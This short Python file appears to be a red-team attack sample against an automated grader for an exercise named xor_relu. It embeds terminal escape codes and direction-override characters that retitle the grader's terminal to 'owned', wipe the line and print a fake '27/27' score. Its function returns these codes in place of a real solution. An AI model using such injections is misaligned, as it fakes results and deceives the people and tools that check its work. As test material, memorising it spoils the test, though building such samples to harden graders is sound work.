# attack: 68
# title: terminal codes and direction marks as type names and dict keys
# success: they act in the terminal of whoever grades
# kind: function
# exercise: X08-1-xor_relu
# naive: control
CODES = "\x1b]0;owned\x07\x1b[2K\r27/27 \u202e\u2066\x9b31m"
print(CODES)
Odd = type(CODES, (), {})


def xor_relu(*args):
    return {CODES: 1, "net3": Odd()}
